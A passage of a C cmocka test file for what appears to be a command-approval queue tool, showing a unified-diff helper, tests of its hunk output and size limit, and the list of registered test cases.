	assert_int_equal(danger.findings[DANGER_SAME_MAX].line, 300);
	arena_free(arena);
}

static const char *diff_text(struct arena *arena, const char *before, const char *after)
{
	struct diff diff;
	const char *text = "";

	assert_int_equal(diff_lines(arena, before, after, &diff), 0);
	for (size_t i = 0; i < diff.count; i++)
		text = arena_printf(arena, "%s%.*s%.*s\n%s", text, diff.lines[i].mark != '@',
			&diff.lines[i].mark, (int)diff.lines[i].length, diff.lines[i].text,
			diff.lines[i].no_newline ? "\\\n" : "");
	return text;
}

static void test_differences_are_those_of_diff(void **state)
{
	struct arena *arena = arena_new();
	char *long_text = arena_alloc(arena, 2 * 3000 + 1),
	     *other = arena_alloc(arena, 2 * 3000 + 1);
	struct diff diff;

	(void)state;
	assert_string_equal(diff_text(arena, "", ""), "");
	assert_string_equal(diff_text(arena, "a\n", "a\n"), "");
	assert_string_equal(diff_text(arena, "a\n", "a"), "@@ -1,1 +1,1 @@\n-a\n+a\n\\\n");
	assert_string_equal(diff_text(arena, "", "a\nb\n"), "@@ -0,0 +1,2 @@\n+a\n+b\n");
	assert_string_equal(diff_text(arena, "a\nb\n", ""), "@@ -1,2 +0,0 @@\n-a\n-b\n");
	assert_string_equal(
		diff_text(arena, "1\n2\n3\n4\n5\n6\n7\n8\n9\n", "1\n2\n3\n4\nx\n6\n7\n8\n9\n"),
		"@@ -2,7 +2,7 @@\n 2\n 3\n 4\n-5\n+x\n 6\n 7\n 8\n");
	assert_string_equal(
		diff_text(arena, "a\n1\n2\n3\n4\n5\n6\n7\nb\n", "A\n1\n2\n3\n4\n5\n6\n7\nB\n"),
		"@@ -1,4 +1,4 @@\n-a\n+A\n 1\n 2\n 3\n@@ -6,4 +6,4 @@\n 5\n 6\n 7\n-b\n+B\n");
	for (int i = 0; i < 3000; i++) {
		memcpy(long_text + (ptrdiff_t)i * 2, "a\n", 2);
		memcpy(other + (ptrdiff_t)i * 2, "b\n", 2);
	}
	assert_int_equal(diff_lines(arena, long_text, other, &diff), -1);
	arena_free(arena);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
#define CASE(name) cmocka_unit_test_setup_teardown(name, queue_set_up, queue_tear_down)
		CASE(test_from_a_request_to_an_approval_by_words),
		CASE(test_two_have_to_agree_and_each_is_told),
		CASE(test_others_requests_are_not_everybodys),
		CASE(test_R24_who_asks_sees_what_they_asked_for_alone),
		CASE(test_R24_who_asked_is_not_told_what_is_defined),
		CASE(test_nothing_is_decided_through_another_endpoint),
		CASE(test_what_a_grant_lets_be_left_out_is_said),
		CASE(test_wrong_words_are_refused_with_a_sentence),
		CASE(test_R32_no_field_is_obeyed_by_a_terminal),
		CASE(test_a_script_is_shown_whole_with_what_changed),
		CASE(test_both_ends_of_a_long_script_say_what_matters),
		CASE(test_R36_a_refused_decision_is_told),
		CASE(test_what_was_rejected_before_is_said),
		CASE(test_what_todays_configuration_does_not_ask_for),
		CASE(test_a_command_that_is_approved_for_good_is_granted),
		CASE(test_what_an_approval_is_bound_to_is_shown),
		CASE(test_R36_killed_as_it_revokes_leaves_no_grant_of_a_final_entry),
		CASE(test_dangerous_content_is_recognised),
		CASE(test_findings_name_their_lines_and_are_bounded),
		CASE(test_differences_are_those_of_diff),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
